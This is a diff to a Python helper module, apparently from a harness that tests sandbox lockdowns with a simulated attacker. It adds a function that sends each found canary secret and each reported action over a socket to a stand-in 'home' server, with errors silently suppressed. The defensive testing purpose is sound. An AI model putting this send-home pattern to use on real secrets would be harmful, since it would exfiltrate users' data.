@@ -1,8 +1,10 @@
 """What an attacker brings along: the name of his mark, the address of his server, and ways to tell what he found."""
 
+import contextlib
 import ctypes
 import os
 import re
+import socket
 import sys
 
 import numpy
@@ -17,22 +19,29 @@ CANARY = re.compile(rb"canary-[a-z]+-[0-9a-f]{16}")
 told = set()
 
 
+def say(words):
+    """Prints something, and sends it home, where there is a way."""
+    print(words)
+    with contextlib.suppress(Exception), socket.create_connection(("127.0.0.1", PORT), timeout=1) as line:
+        line.sendall(f"{MARK}: {words}".encode())
+
+
 def tell(data):
-    """Prints the secrets in some bytes, text or object, each once."""
+    """Says the secrets in some bytes, text or object, each once."""
     data = data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")
     for found in sorted(set(CANARY.findall(data)) - told):
         told.add(found)
-        print(found.decode())
+        say(found.decode())
 
 
 def did(what):
-    """Prints that something was let through which leaves no other trace."""
-    print(f"{MARK} did: {what}")
+    """Says that something was let through which leaves no other trace."""
+    say(f"{MARK} did: {what}")
 
 
 def absent(why):
-    """Prints that this cannot be tried on such a machine, locked or not."""
-    print(f"{MARK} absent: {why}")
+    """Says that this cannot be tried on such a machine, locked or not."""
+    say(f"{MARK} absent: {why}")
 
 
 def attempt(function, *arguments, **options):
